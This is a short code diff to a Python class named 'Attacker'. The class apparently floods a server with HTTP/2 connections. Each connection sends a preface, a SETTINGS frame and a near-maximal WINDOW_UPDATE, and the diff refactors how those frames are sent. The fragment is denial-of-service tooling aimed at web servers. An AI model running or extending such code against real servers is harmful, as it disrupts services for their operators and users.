@@ -35,10 +35,8 @@ class Attacker:
         # A window without end: replies are thrown away, and must not stop for want of room.
         window = frames.WindowUpdateFrame(0, window_increment=(1 << 31) - 1 - 65535)
         self.connections += 1
-        try:
-            self._wire.sendall(PREFACE + frames.SettingsFrame().serialize() + window.serialize())
-        except OSError:
-            pass  # a server that has had enough of this address closes its connections as they come; sending tells
+        # A server that has had enough of this address closes its connections as they come.
+        self.send(PREFACE + frames.SettingsFrame().serialize() + window.serialize(), 0)
 
     def send(self, data, units):
         """Sends; False when the server has closed the connection or does not read any more."""
